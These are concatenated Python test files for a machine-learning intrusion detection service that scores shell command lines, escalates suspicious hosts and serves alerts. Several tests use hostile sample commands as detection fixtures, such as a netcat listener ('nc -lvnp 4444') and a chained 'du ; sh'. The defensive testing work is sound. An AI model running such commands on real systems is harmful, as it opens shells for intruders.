        assert len(agg.sessions()) == 3
        assert agg.session("b") is None
        assert agg.session("a") is not None
        assert agg.evictions == 1

    def test_evicted_host_restarts_fresh(self):
        agg = SessionAggregator(max_hosts=1, escalation_threshold=2, window_seconds=60)
        agg.observe("a", 0.0, is_alert=True)
        agg.observe("b", 1.0, is_alert=False)  # evicts a
        session, newly = agg.observe("a", 2.0, is_alert=True)
        assert not newly  # a's earlier alert state was released
        assert session.alerts == 1

    def test_escalated_host_survives_fleet_churn(self):
        """Sticky escalation must not be silently dropped by LRU churn:
        eviction prefers non-escalated hosts."""
        agg = SessionAggregator(max_hosts=3, escalation_threshold=2, window_seconds=60)
        agg.observe("attacker", 0.0, is_alert=True)
        agg.observe("attacker", 1.0, is_alert=True)
        assert agg.session("attacker").escalated
        # benign churn from many other hosts makes the attacker the LRU entry
        for index in range(10):
            agg.observe(f"h{index}", float(index + 2), is_alert=False)
        assert agg.session("attacker") is not None
        assert agg.session("attacker").escalated
        assert len(agg.sessions()) == 3

    def test_all_escalated_hosts_still_honour_the_bound(self):
        agg = SessionAggregator(max_hosts=2, escalation_threshold=1, window_seconds=60)
        for index, host in enumerate(("a", "b", "c")):
            agg.observe(host, float(index), is_alert=True)  # each escalates at once
        # every session is escalated: the hard memory bound wins and the
        # oldest incident is dropped
        assert len(agg.sessions()) == 2
        assert agg.session("a") is None

    def test_fleet_sweep_keeps_memory_bounded(self):
        agg = SessionAggregator(max_hosts=100)
        for index in range(10_000):
            agg.observe(f"m{index:06d}", float(index), is_alert=False)
        assert len(agg.sessions()) == 100
        assert agg.evictions == 9_900


class TestSequenceMode:
    def test_count_threshold_does_not_escalate_in_sequence_mode(self):
        agg = SessionAggregator(window_seconds=60, escalation_threshold=2, mode="sequence")
        for t in range(5):
            _, newly = agg.observe("h", float(t), is_alert=True, line=f"cmd{t}")
            assert not newly
        assert not agg.session("h").escalated

    def test_sequence_score_escalates_once(self):
        agg = SessionAggregator(mode="sequence", sequence_threshold=0.5)
        agg.observe("h", 0.0, is_alert=True, line="nc -lvnp 4444")
        assert agg.record_sequence_score("h", 0.4) is False
        assert agg.record_sequence_score("h", 0.7) is True
        assert agg.record_sequence_score("h", 0.9) is False  # sticky, once
        session = agg.session("h")
        assert session.escalated and session.escalated_by == "sequence"
        assert session.sequence_score == 0.9  # latest score still recorded

    def test_sequence_score_ignored_in_count_mode(self):
        agg = SessionAggregator(mode="count")
        agg.observe("h", 0.0, is_alert=True, line="x")
        assert agg.record_sequence_score("h", 0.99) is False
        assert not agg.session("h").escalated

    def test_unknown_host_sequence_score_is_noop(self):
        agg = SessionAggregator(mode="sequence")
        assert agg.record_sequence_score("ghost", 0.9) is False


class TestContextComposition:
    def test_compose_joins_recent_lines_current_last(self):
        agg = SessionAggregator(context_window=3, context_max_gap_seconds=100)
        agg.observe("h", 0.0, is_alert=False, line="git status")
        agg.observe("h", 10.0, is_alert=False, line="git pull")
        agg.observe("h", 20.0, is_alert=True, line="nc -lvnp 4444")
        assert agg.compose_context("h") == "git status ; git pull ; nc -lvnp 4444"

    def test_stale_context_lines_age_out(self):
        agg = SessionAggregator(context_window=3, context_max_gap_seconds=100)
        agg.observe("h", 0.0, is_alert=False, line="old")
        agg.observe("h", 500.0, is_alert=True, line="new")
        assert agg.compose_context("h") == "new"

    def test_context_window_is_bounded(self):
        agg = SessionAggregator(context_window=2, context_max_gap_seconds=1e9)
        for t, line in enumerate(("a", "b", "c", "d")):
            agg.observe("h", float(t), is_alert=False, line=line)
        assert agg.compose_context("h") == "c ; d"
        assert agg.session("h").context_lines() == ["c", "d"]

    def test_compose_unknown_or_lineless_host_is_none(self):
        agg = SessionAggregator()
        assert agg.compose_context("ghost") is None
        agg.observe("h", 0.0, is_alert=False)  # no line supplied
        assert agg.compose_context("h") is None
