"""Compiled-inference serving tests: parity, fencing, warm-up, config.

The contract under test, layer by layer:

- ``compiled=false`` leaves the pipeline byte-identical to the plain
  Tensor path (no extra forwards, no plan on the service);
- ``compiled=true`` at float64 produces bitwise-identical scores and
  verdicts while the service reports ``inference_compiled``;
- a hot swap can never serve a stale plan — the in-loop service is
  compiled before rotation and process workers rebuild their plan
  behind the generation key baked into the compiled loader;
- warm-up pays the one-time costs (plan scratch, lazy tokenizers)
  inside ``start``/``swap_model``, before the first real batch.
"""

import asyncio
from functools import partial

import numpy as np
import pytest

from repro.errors import ConfigError
from repro.serving import DetectionServer, ProcessPoolBackend, serve_stream
from repro.serving.backends import _warm_service, load_bundle_compiled
from repro.serving.cli import build_serve_parser, resolve_config
from repro.serving.config import BackendConfig, ServingConfig
from repro.serving.demo import DEMO_BENIGN, DEMO_MALICIOUS

STREAM = [*DEMO_MALICIOUS[:4], *DEMO_BENIGN[:8]]


def run(coro):
    return asyncio.run(coro)


def fresh_service(demo_bundle):
    """A private service instance (the session fixtures must not be
    mutated by compilation side effects)."""
    from repro.ids.pipeline import IntrusionDetectionService

    return IntrusionDetectionService.load(demo_bundle)


class TestServiceCompilation:
    def test_compile_routes_scoring_bitwise(self, demo_bundle):
        service = fresh_service(demo_bundle)
        lines = [service.preprocess(line) for line in STREAM]
        baseline = np.asarray(service.score_normalized(lines))
        assert service.compile_inference() is True
        assert service.inference_compiled
        assert service.inference_precision == "float64"
        compiled = np.asarray(service.score_normalized(lines))
        assert np.array_equal(baseline, compiled)

    def test_reset_returns_to_tape(self, demo_bundle):
        service = fresh_service(demo_bundle)
        service.compile_inference()
        service.reset_inference()
        assert not service.inference_compiled
        assert service.inference_precision is None

    def test_float32_verdict_parity(self, demo_bundle):
        service = fresh_service(demo_bundle)
        lines = [service.preprocess(line) for line in STREAM]
        baseline = np.asarray(service.score_normalized(lines))
        assert service.compile_inference(precision="float32") is True
        compiled = np.asarray(service.score_normalized(lines))
        np.testing.assert_allclose(compiled, baseline, atol=1e-4)
        assert np.array_equal(
            baseline >= service.threshold, compiled >= service.threshold
        )

    def test_uncompilable_model_falls_back_with_warning(self, demo_bundle):
        service = fresh_service(demo_bundle)
        model = service.encoder.model

        class Tweaked(type(model)):
            pass

        model.__class__ = Tweaked
        with pytest.warns(RuntimeWarning, match="Tensor path"):
            assert service.compile_inference() is False
        assert not service.inference_compiled


class TestServerIntegration:
    def _scores(self, service, *, compiled, precision="float64"):
        results, server = serve_stream(
            service,
            STREAM,
            max_latency_ms=5,
            compiled=compiled,
            precision=precision,
        )
        by_line = {r.raw_line: r.score for r in results}
        return np.array([by_line[line] for line in STREAM]), server

    def test_compiled_false_is_byte_identical(self, demo_bundle):
        plain, server = self._scores(fresh_service(demo_bundle), compiled=False)
        baseline, _ = self._scores(fresh_service(demo_bundle), compiled=False)
        assert np.array_equal(plain, baseline)
        assert server.metrics.compiled_batches == 0

    def test_compiled_float64_verdicts_bitwise(self, demo_bundle):
        plain, _ = self._scores(fresh_service(demo_bundle), compiled=False)
        compiled, server = self._scores(fresh_service(demo_bundle), compiled=True)
        assert np.array_equal(plain, compiled)
        assert server.metrics.compiled_batches > 0
        assert server.metrics.model_batches > 0
        assert server.metrics.model_ms_total > 0.0

    def test_stub_without_compile_surface_serves_plainly(self, stub_service):
        results, server = serve_stream(
            stub_service, ["evil --flag", "ls -la"], max_latency_ms=5, compiled=True
        )
        assert len(results) == 2
        assert server.metrics.compiled_batches == 0

    def test_start_warms_compiled_plan(self, demo_bundle):
        service = fresh_service(demo_bundle)

        async def scenario():
            async with DetectionServer(service, max_latency_ms=5):
                return service.encoder.inference_plan.calls

        # the warm-up forward ran during start(), before any submission
        assert run(scenario()) >= 1


class TestSwapFencing:
    def test_swap_compiles_incoming_service(self, demo_bundle):
        first = fresh_service(demo_bundle)
        second = fresh_service(demo_bundle)

        async def scenario():
            async with DetectionServer(first, max_latency_ms=5) as server:
                before = await server.submit(DEMO_MALICIOUS[0])
                old_plan = first.encoder.inference_plan
                await server.swap_model(service=second)
                after = await server.submit(DEMO_MALICIOUS[0])
                return before, after, old_plan, server

        before, after, old_plan, server = run(scenario())
        # the incoming generation got its own plan — compiled before
        # rotation and warmed inside the drain, never the old snapshot
        assert second.inference_compiled
        assert second.encoder.inference_plan is not old_plan
        assert second.encoder.inference_plan.calls >= 1
        assert after.generation == before.generation + 1
        assert after.score == pytest.approx(before.score)

    def test_swap_bundle_dir_uses_compiled_loader(self, demo_bundle):
        service = fresh_service(demo_bundle)

        async def scenario():
            async with DetectionServer(service, max_latency_ms=5) as server:
                await server.swap_model(demo_bundle)
                return server._ctx.service

        swapped = run(scenario())
        assert swapped is not service
        assert swapped.inference_compiled

    def test_swap_bundle_dir_stays_plain_when_disabled(self, demo_bundle):
        service = fresh_service(demo_bundle)

        async def scenario():
            async with DetectionServer(
                service, max_latency_ms=5, compiled=False
            ) as server:
                await server.swap_model(demo_bundle)
                return server._ctx.service

        swapped = run(scenario())
        assert not service.inference_compiled
        assert not swapped.inference_compiled

    def test_process_workers_rebuild_plan_per_generation(self, demo_bundle):
        """Worker processes can never serve a stale plan: the compiled
        loader is keyed by backend generation, so a swap rehydrates and
        recompiles inside each worker."""
        loader = partial(load_bundle_compiled, demo_bundle, "float64")
        service = fresh_service(demo_bundle)
        lines = [service.preprocess(line) for line in STREAM]
        want = np.asarray(service.score_normalized(lines))

        async def scenario():
            backend = ProcessPoolBackend(demo_bundle, loader=loader, workers=1)
            try:
                await backend.start()
                first = await backend.score(lines)
                await backend.swap(loader=loader)
                second = await backend.score(lines)
            finally:
                await backend.stop()
            return np.asarray(first), np.asarray(second)

        first, second = run(scenario())
        # compiled float64 in a worker process scores bitwise like the
        # local tape, before and after the generation bump
        assert np.array_equal(first, want)
        assert np.array_equal(second, want)


class TestWarmUp:
    def test_warm_service_skips_uncompiled(self, demo_bundle):
        service = fresh_service(demo_bundle)
        _warm_service(service)
        assert service.encoder.inference_plan is None

    def test_warm_service_primes_plan_scratch(self, demo_bundle):
        service = fresh_service(demo_bundle)
        service.compile_inference()
        plan = service.encoder.inference_plan
        assert plan.calls == 0
        _warm_service(service)
        assert plan.calls >= 1
        assert plan.scratch_buckets >= 1

    def test_backend_warm_up_never_raises(self, stub_service):
        async def scenario():
            from repro.serving import InlineBackend

            backend = InlineBackend(stub_service)
            await backend.warm_up()  # stub: no-op, must not raise

        run(scenario())


class TestBackendConfig:
    def test_defaults(self):
        config = BackendConfig()
        assert config.compiled is True
        assert config.precision == "float64"

    def test_round_trip(self):
        config = BackendConfig(compiled=False, precision="float32")
        again = BackendConfig.from_dict(config.to_dict())
        assert again == config

    def test_rejects_unknown_precision(self):
        with pytest.raises(ConfigError, match="backend.precision"):
            BackendConfig(precision="bfloat16")

    def test_rejects_non_bool_compiled(self):
        with pytest.raises(ConfigError, match="backend.compiled"):
            BackendConfig(compiled="yes")

    def test_serving_config_json_round_trip(self):
        import json

        config = ServingConfig(backend=BackendConfig(compiled=False, precision="float32"))
        again = ServingConfig.from_dict(json.loads(config.to_json()))
        assert again.backend.compiled is False
        assert again.backend.precision == "float32"


class TestCliFlags:
    def _resolve(self, *argv):
        return resolve_config(build_serve_parser().parse_args(list(argv)))

    def test_default_keeps_config_value(self):
        assert self._resolve().backend.compiled is True

    def test_no_compiled_flag(self):
        config = self._resolve("--no-compiled")
        assert config.backend.compiled is False

    def test_precision_flag(self):
        config = self._resolve("--precision", "float32")
        assert config.backend.precision == "float32"

    def test_flags_reach_server(self, demo_bundle):
        service = fresh_service(demo_bundle)
        config = self._resolve("--no-compiled")
        server = DetectionServer.from_config(service, config)
        assert server.compiled is False
        assert not service.inference_compiled
