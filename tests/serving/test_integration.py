"""End-to-end serving tests against the real (miniature) trained service."""

import json

from repro.serving import RingBufferSink, serve_stream
from repro.serving.cli import parse_event, serve_main
from repro.serving.demo import DEMO_BENIGN, DEMO_MALICIOUS


class TestStreamingAgainstRealService:
    def test_stream_matches_batch_inspect(self, demo_service):
        lines = DEMO_BENIGN[:4] + DEMO_MALICIOUS[:2]
        results, _ = serve_stream(demo_service, lines, concurrency=3, max_latency_ms=10)
        batch = demo_service.inspect(lines)
        for streamed, offline in zip(results, batch):
            assert streamed.line == offline.line
            assert abs(streamed.score - offline.score) < 1e-9
            assert streamed.is_intrusion == offline.is_intrusion

    def test_alerts_fan_out_for_malicious_stream(self, demo_service):
        ring = RingBufferSink()
        stream = [line for line in DEMO_MALICIOUS for _ in range(3)]
        _, server = serve_stream(
            demo_service,
            stream,
            concurrency=4,
            max_latency_ms=10,
            sinks=[ring],
            session_window_seconds=1e9,
            escalation_threshold=4,
        )
        assert server.metrics.alerts == ring.emitted
        assert server.metrics.alerts >= len(DEMO_MALICIOUS)  # repeats hit the cache but still alert
        assert server.metrics.cache_hits > 0
        assert server.sessions.escalated_hosts() == ["-"]


class TestParseEvent:
    def test_plain_line(self):
        event = parse_event("ls -la /tmp\n")
        assert event.line == "ls -la /tmp"
        assert event.host == "-"
        assert event.timestamp is None

    def test_json_line(self):
        event = parse_event('{"line": "nc -lvnp 4444", "host": "web-3", "timestamp": 17.5}')
        assert event.line == "nc -lvnp 4444"
        assert event.host == "web-3"
        assert event.timestamp == 17.5

    def test_blank_line_skipped(self):
        assert parse_event("   \n") is None

    def test_malformed_json_treated_as_raw_line(self):
        event = parse_event('{"line": broken')
        assert event.line == '{"line": broken'

    def test_non_numeric_timestamp_ignored(self):
        event = parse_event('{"line": "ls", "timestamp": "not-a-number"}')
        assert event.line == "ls"
        assert event.timestamp is None

    def test_wrong_typed_timestamp_ignored(self):
        event = parse_event('{"line": "ls", "timestamp": [1, 2]}')
        assert event.timestamp is None


class TestServeCli:
    def test_serve_end_to_end(self, demo_service, tmp_path, capsys, monkeypatch):
        # skip the in-test training: reuse the session's demo service
        monkeypatch.setattr("repro.serving.demo.build_demo_service", lambda: demo_service)
        bundle_free_input = tmp_path / "telemetry.log"
        events = [json.dumps({"line": line, "host": "web-1", "timestamp": float(i)})
                  for i, line in enumerate(DEMO_BENIGN * 2 + DEMO_MALICIOUS * 2)]
        bundle_free_input.write_text("\n".join(events) + "\n")
        alerts_out = tmp_path / "alerts.jsonl"

        code = serve_main(
            [
                "--input", str(bundle_free_input),
                "--alerts-out", str(alerts_out),
                "--max-batch", "8",
                "--max-latency-ms", "10",
            ]
        )

        assert code == 0
        output = capsys.readouterr().out
        assert "serving metrics" in output
        assert "ALERT" in output
        records = [json.loads(line) for line in alerts_out.read_text().splitlines()]
        assert records, "malicious lines must produce JSONL alerts"
        assert all(record["host"] == "web-1" for record in records)

    def test_serve_with_saved_bundle(self, demo_service, tmp_path, capsys):
        bundle = tmp_path / "bundle"
        demo_service.save(bundle)
        stream = tmp_path / "input.log"
        stream.write_text("\n".join(DEMO_MALICIOUS) + "\n")

        code = serve_main(
            ["--input", str(stream), "--bundle", str(bundle), "--quiet", "--max-latency-ms", "10"]
        )

        assert code == 0
        output = capsys.readouterr().out
        assert "training a small demo service" not in output
        assert "serving metrics" in output

    def test_serve_with_process_workers(self, demo_bundle, tmp_path, capsys, backend_workers):
        """--workers N shards scoring across worker processes end to end."""
        stream = tmp_path / "input.log"
        stream.write_text("\n".join((DEMO_BENIGN + DEMO_MALICIOUS) * 2) + "\n")

        code = serve_main(
            [
                "--input", str(stream),
                "--bundle", demo_bundle,
                "--workers", str(backend_workers),
                "--quiet",
                "--max-latency-ms", "10",
            ]
        )

        assert code == 0
        output = capsys.readouterr().out
        assert f"process(workers={backend_workers})" in output
        assert "serving metrics" in output

    def test_serve_rejects_bad_workers(self, capsys):
        code = serve_main(["--workers", "0", "--input", "/dev/null"])
        assert code == 2
