"""End-to-end serving tests against the real (miniature) trained service."""

import json

from repro.serving import RingBufferSink, ServingConfig, serve_stream
from repro.serving.cli import parse_event, serve_main
from repro.serving.demo import DEMO_BENIGN, DEMO_MALICIOUS


class TestStreamingAgainstRealService:
    def test_stream_matches_batch_inspect(self, demo_service):
        lines = DEMO_BENIGN[:4] + DEMO_MALICIOUS[:2]
        results, _ = serve_stream(demo_service, lines, concurrency=3, max_latency_ms=10)
        batch = demo_service.inspect(lines)
        for streamed, offline in zip(results, batch):
            assert streamed.line == offline.line
            assert abs(streamed.score - offline.score) < 1e-9
            assert streamed.is_intrusion == offline.is_intrusion

    def test_alerts_fan_out_for_malicious_stream(self, demo_service):
        ring = RingBufferSink()
        stream = [line for line in DEMO_MALICIOUS for _ in range(3)]
        _, server = serve_stream(
            demo_service,
            stream,
            concurrency=4,
            max_latency_ms=10,
            sinks=[ring],
            session_window_seconds=1e9,
            escalation_threshold=4,
        )
        assert server.metrics.alerts == ring.emitted
        assert server.metrics.alerts >= len(DEMO_MALICIOUS)  # repeats hit the cache but still alert
        assert server.metrics.cache_hits > 0
        assert server.sessions.escalated_hosts() == ["-"]


class TestParseEvent:
    def test_plain_line(self):
        event = parse_event("ls -la /tmp\n")
        assert event.line == "ls -la /tmp"
        assert event.host == "-"
        assert event.timestamp is None

    def test_json_line(self):
        event = parse_event('{"line": "nc -lvnp 4444", "host": "web-3", "timestamp": 17.5}')
        assert event.line == "nc -lvnp 4444"
        assert event.host == "web-3"
        assert event.timestamp == 17.5

    def test_blank_line_skipped(self):
        assert parse_event("   \n") is None

    def test_malformed_json_treated_as_raw_line(self):
        event = parse_event('{"line": broken')
        assert event.line == '{"line": broken'

    def test_non_numeric_timestamp_ignored(self):
        event = parse_event('{"line": "ls", "timestamp": "not-a-number"}')
        assert event.line == "ls"
        assert event.timestamp is None

    def test_wrong_typed_timestamp_ignored(self):
        event = parse_event('{"line": "ls", "timestamp": [1, 2]}')
        assert event.timestamp is None


class TestServeCli:
    def test_serve_end_to_end(self, demo_service, tmp_path, capsys, monkeypatch):
        # skip the in-test training: reuse the session's demo service
        # (undoing the serving-config recording serve_main attaches to it,
        # so the session-scoped fixture doesn't leak this deployment)
        monkeypatch.setattr("repro.serving.demo.build_demo_service", lambda: demo_service)
        monkeypatch.setattr(demo_service, "serving_config", None)
        bundle_free_input = tmp_path / "telemetry.log"
        events = [json.dumps({"line": line, "host": "web-1", "timestamp": float(i)})
                  for i, line in enumerate(DEMO_BENIGN * 2 + DEMO_MALICIOUS * 2)]
        bundle_free_input.write_text("\n".join(events) + "\n")
        alerts_out = tmp_path / "alerts.jsonl"

        code = serve_main(
            [
                "--input", str(bundle_free_input),
                "--alerts-out", str(alerts_out),
                "--max-batch", "8",
                "--max-latency-ms", "10",
            ]
        )

        assert code == 0
        output = capsys.readouterr().out
        assert "serving metrics" in output
        assert "ALERT" in output
        records = [json.loads(line) for line in alerts_out.read_text().splitlines()]
        assert records, "malicious lines must produce JSONL alerts"
        assert all(record["host"] == "web-1" for record in records)

    def test_serve_with_saved_bundle(self, demo_service, tmp_path, capsys):
        bundle = tmp_path / "bundle"
        demo_service.save(bundle)
        stream = tmp_path / "input.log"
        stream.write_text("\n".join(DEMO_MALICIOUS) + "\n")

        code = serve_main(
            ["--input", str(stream), "--bundle", str(bundle), "--quiet", "--max-latency-ms", "10"]
        )

        assert code == 0
        output = capsys.readouterr().out
        assert "training a small demo service" not in output
        assert "serving metrics" in output

    def test_serve_with_process_workers(self, demo_bundle, tmp_path, capsys, backend_workers):
        """--workers N shards scoring across worker processes end to end."""
        stream = tmp_path / "input.log"
        stream.write_text("\n".join((DEMO_BENIGN + DEMO_MALICIOUS) * 2) + "\n")

        code = serve_main(
            [
                "--input", str(stream),
                "--bundle", demo_bundle,
                "--workers", str(backend_workers),
                "--quiet",
                "--max-latency-ms", "10",
            ]
        )

        assert code == 0
        output = capsys.readouterr().out
        assert f"process(workers={backend_workers})" in output
        assert "serving metrics" in output

    def test_serve_rejects_bad_workers(self, capsys):
        code = serve_main(["--workers", "0", "--input", "/dev/null"])
        assert code == 2

    def test_serve_rejects_bad_config_file(self, tmp_path, capsys):
        config = tmp_path / "serve.toml"
        config.write_text("[batch]\nmax_batchh = 4\n")
        code = serve_main(["--config", str(config), "--input", "/dev/null"])
        assert code == 2
        assert "did you mean 'max_batch'" in capsys.readouterr().err


class TestServeCliConfig:
    def test_print_config_round_trips_resolved_config(self, capsys):
        """Acceptance: --print-config output parses back to an equal config."""
        code = serve_main(["--config", "examples/serve.toml", "--print-config"])
        assert code == 0
        printed = json.loads(capsys.readouterr().out)
        assert ServingConfig.from_dict(printed) == ServingConfig.from_file(
            "examples/serve.toml"
        )

    def test_flags_override_config_file(self, capsys):
        code = serve_main(
            [
                "--config", "examples/serve.toml",
                "--max-batch", "64",
                "--cache-ttl", "42.5",
                "--workers", "3",
                "--backend", "threaded",
                "--sink", "ring://7",
                "--print-config",
            ]
        )
        assert code == 0
        resolved = ServingConfig.from_dict(json.loads(capsys.readouterr().out))
        base = ServingConfig.from_file("examples/serve.toml")
        assert resolved.batch.max_batch == 64
        assert resolved.batch.max_latency_ms == base.batch.max_latency_ms  # kept
        assert resolved.cache.ttl_seconds == 42.5
        assert resolved.backend.workers == 3
        assert resolved.backend.kind == "threaded"
        assert [spec.uri for spec in resolved.sinks] == [
            *[spec.uri for spec in base.sinks],
            "ring://7",
        ]

    def test_alerts_out_path_survives_uri_special_characters(self, capsys):
        """'#', '?', '%', and spaces in --alerts-out must reach the sink
        verbatim, not be eaten by URI parsing."""
        from repro.serving import build_sink

        tricky = "alerts #1 100%?.jsonl"
        code = serve_main(["--alerts-out", tricky, "--print-config"])
        assert code == 0
        resolved = ServingConfig.from_dict(json.loads(capsys.readouterr().out))
        spec = resolved.sinks[-1]
        assert spec.name == "alerts-out"
        assert str(build_sink(spec.uri).path) == tricky

    def test_print_config_without_file_shows_defaults_plus_overrides(self, capsys):
        code = serve_main(["--escalate-after", "9", "--print-config"])
        assert code == 0
        resolved = ServingConfig.from_dict(json.loads(capsys.readouterr().out))
        assert resolved.session.escalation_threshold == 9
        assert resolved.batch == ServingConfig().batch

    def test_serve_example_config_end_to_end(
        self, demo_service, tmp_path, capsys, monkeypatch
    ):
        """The example deployment boots a real server: events stream, the
        jsonl:// sink lands alerts on disk, delivery stats report."""
        monkeypatch.setattr("repro.serving.demo.build_demo_service", lambda: demo_service)
        monkeypatch.setattr(demo_service, "serving_config", None)  # no fixture leak
        config = str(_repo_root() / "examples" / "serve.toml")
        stream = tmp_path / "input.log"
        stream.write_text("\n".join(DEMO_MALICIOUS * 2) + "\n")
        monkeypatch.chdir(tmp_path)  # serve.toml's jsonl:// path is relative

        code = serve_main(["--config", config, "--input", str(stream), "--quiet"])

        assert code == 0
        output = capsys.readouterr().out
        assert "serving metrics" in output
        assert "alert delivery" in output
        assert "siem-handoff" in output
        records = [
            json.loads(line) for line in (tmp_path / "alerts.jsonl").read_text().splitlines()
        ]
        assert records, "malicious lines must land in the configured jsonl sink"

    def test_session_flags_override_config_file(self, capsys):
        code = serve_main(
            [
                "--session-mode", "sequence",
                "--sequence-threshold", "0.7",
                "--context-window", "5",
                "--context-max-gap", "60",
                "--max-hosts", "1000",
                "--print-config",
            ]
        )
        assert code == 0
        resolved = ServingConfig.from_dict(json.loads(capsys.readouterr().out))
        assert resolved.session.mode == "sequence"
        assert resolved.session.sequence_threshold == 0.7
        assert resolved.session.context_window == 5
        assert resolved.session.context_max_gap_seconds == 60.0
        assert resolved.session.max_hosts == 1000
        assert resolved.session.window_seconds == 300.0  # untouched default

    def test_serve_sequence_mode_with_two_stage_bundle(
        self, two_stage_demo_service, tmp_path, capsys
    ):
        """End to end: a two-stage bundle loads and serves both stages —
        the victim host escalates on its composed command window while a
        benign host stays quiet."""
        bundle = tmp_path / "bundle"
        two_stage_demo_service.save(bundle)
        events = [
            json.dumps({"line": line, "host": "victim", "timestamp": float(i * 20)})
            for i, line in enumerate(DEMO_MALICIOUS)
        ] + [
            json.dumps({"line": line, "host": "dev-1", "timestamp": float(i * 20 + 5)})
            for i, line in enumerate(DEMO_BENIGN)
        ]
        stream = tmp_path / "input.log"
        stream.write_text("\n".join(events) + "\n")

        code = serve_main(
            [
                "--input", str(stream),
                "--bundle", str(bundle),
                "--session-mode", "sequence",
                "--sequence-threshold", "0.7",
                "--escalate-after", "99",  # the count trigger stays out of reach
                "--max-latency-ms", "10",
            ]
        )

        assert code == 0
        output = capsys.readouterr().out
        assert "escalated hosts: victim" in output
        assert "dev-1" not in output.split("escalated hosts:")[1].splitlines()[0]
        assert "seq=" in output  # console alerts carry the sequence score

    def test_serve_sequence_mode_rejects_single_stage_bundle(
        self, demo_service, tmp_path, capsys
    ):
        bundle = tmp_path / "bundle"
        demo_service.save(bundle)
        stream = tmp_path / "input.log"
        stream.write_text("ls -la\n")
        code = serve_main(
            ["--input", str(stream), "--bundle", str(bundle), "--session-mode", "sequence"]
        )
        assert code == 2
        assert "multi-line head" in capsys.readouterr().err

    def test_serve_records_config_into_bundle(self, demo_service, tmp_path, capsys):
        bundle = tmp_path / "bundle"
        demo_service.save(bundle)
        stream = tmp_path / "input.log"
        stream.write_text("ls -la\n")

        code = serve_main(
            ["--input", str(stream), "--bundle", str(bundle), "--quiet",
             "--max-latency-ms", "10", "--escalate-after", "7"]
        )
        assert code == 0
        capsys.readouterr()  # discard the serve run's output

        # the bundle remembers the deployment; a later --print-config
        # with no flags resolves to it
        from repro.serving import load_recorded_config

        recorded = load_recorded_config(bundle)
        assert recorded is not None
        assert recorded.session.escalation_threshold == 7
        code = serve_main(["--bundle", str(bundle), "--print-config"])
        assert code == 0
        assert ServingConfig.from_dict(json.loads(capsys.readouterr().out)) == recorded


def _repo_root():
    from pathlib import Path

    return Path(__file__).resolve().parents[2]
