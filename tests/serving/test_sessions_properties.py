"""Property-based tests for session aggregation and the incremental composer.

Invariants under arbitrary (including out-of-order) event streams:

- escalation is monotone in alert density — turning benign events into
  alerts can only make a host escalate, and never later;
- the rolling window never holds an entry older than ``window_seconds``
  behind the host's horizon;
- ``newly_escalated`` fires exactly once per escalated host;
- the serving-side incremental composition matches the batch
  :class:`MultiLineComposer` exactly on the same stream (for the
  aggregator's float-seconds feed as well as the datetime feed).
"""

from datetime import datetime, timedelta

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.loggen import CommandDataset, LogRecord
from repro.serving import SessionAggregator
from repro.tuning.multiline import IncrementalComposer, MultiLineComposer

# one host's event stream: (inter-arrival seconds, is_alert); built from
# gaps so timestamps are sorted, then optionally shuffled per-test
streams = st.lists(
    st.tuples(st.floats(min_value=0.0, max_value=120.0), st.booleans()),
    min_size=1,
    max_size=40,
)


def timeline(stream):
    """Cumulative (timestamp, is_alert) pairs from inter-arrival gaps."""
    events, cursor = [], 0.0
    for gap, is_alert in stream:
        cursor += gap
        events.append((cursor, is_alert))
    return events


def run_count_mode(events, window_seconds=60.0, threshold=3):
    agg = SessionAggregator(window_seconds=window_seconds, escalation_threshold=threshold)
    newly_flags = [agg.observe("h", t, alert)[1] for t, alert in events]
    return agg.session("h"), newly_flags


@given(streams, st.data())
@settings(max_examples=150, deadline=None)
def test_escalation_is_monotone_in_alert_density(stream, data):
    events = timeline(stream)
    upgrades = data.draw(
        st.lists(st.booleans(), min_size=len(events), max_size=len(events))
    )
    denser = [(t, alert or up) for (t, alert), up in zip(events, upgrades)]
    base_session, _ = run_count_mode(events)
    dense_session, _ = run_count_mode(denser)
    if base_session.escalated:
        assert dense_session.escalated
        assert dense_session.escalated_at <= base_session.escalated_at


@given(
    st.lists(
        st.tuples(st.floats(min_value=0.0, max_value=500.0), st.booleans()),
        min_size=1,
        max_size=40,
    )
)
@settings(max_examples=150, deadline=None)
def test_window_never_holds_entries_older_than_window(events):
    # raw (possibly out-of-order) timestamps: the clamp must keep every
    # retained entry within window_seconds of the host's horizon
    agg = SessionAggregator(window_seconds=45.0, escalation_threshold=10_000)
    for t, alert in events:
        session, _ = agg.observe("h", t, alert)
        horizon = session.last_seen - agg.window_seconds
        assert all(stamp >= horizon for stamp in session.window)
        assert list(session.window) == sorted(session.window)


@given(streams)
@settings(max_examples=150, deadline=None)
def test_newly_escalated_fires_exactly_once_per_host(stream):
    session, newly_flags = run_count_mode(timeline(stream))
    assert sum(newly_flags) == int(session.escalated)


hosts = st.sampled_from(["web-1", "web-2", "db-1"])
lines = st.sampled_from(["ls -la", "git pull", "nc -lvnp 4444", "du ; sh", "id"])
composer_streams = st.lists(
    st.tuples(hosts, st.integers(min_value=0, max_value=400), lines),
    min_size=1,
    max_size=60,
)


@given(composer_streams, st.integers(min_value=1, max_value=4))
@settings(max_examples=100, deadline=None)
def test_incremental_composer_matches_batch_composer(stream, window):
    """Feeding records one at a time equals batch composition — the
    guarantee that lets serving reuse the tuner's window semantics."""
    start = datetime(2022, 5, 29)
    cursor = 0
    records = []
    for host, gap, line in stream:
        cursor += gap
        records.append(
            LogRecord(
                line=line, user=host, machine=host, timestamp=start + timedelta(seconds=cursor)
            )
        )
    dataset = CommandDataset(records)
    max_gap = timedelta(seconds=90)
    batch = MultiLineComposer(window=window, max_gap=max_gap).compose(dataset)
    stream_composer = IncrementalComposer(window=window, max_gap=max_gap)
    for sample, record in zip(batch, dataset):
        text, n_context = stream_composer.push(record.user, record.timestamp, record.line)
        assert text == sample.text
        assert n_context == sample.n_context


@given(composer_streams, st.integers(min_value=1, max_value=4))
@settings(max_examples=100, deadline=None)
def test_serving_aggregator_composition_matches_batch_composer(stream, window):
    """The per-host windows the server escalates on compose exactly what
    the batch multi-line tuner would have seen for the same stream."""
    start = datetime(2022, 5, 29)
    cursor = 0
    records = []
    for host, gap, line in stream:
        cursor += gap
        records.append(
            LogRecord(
                line=line, user=host, machine=host, timestamp=start + timedelta(seconds=cursor)
            )
        )
    dataset = CommandDataset(records)
    batch = MultiLineComposer(window=window, max_gap=timedelta(seconds=90)).compose(dataset)
    agg = SessionAggregator(context_window=window, context_max_gap_seconds=90.0)
    for sample, record in zip(batch, dataset):
        agg.observe(record.user, record.timestamp.timestamp(), False, line=record.line)
        assert agg.compose_context(record.user) == sample.text
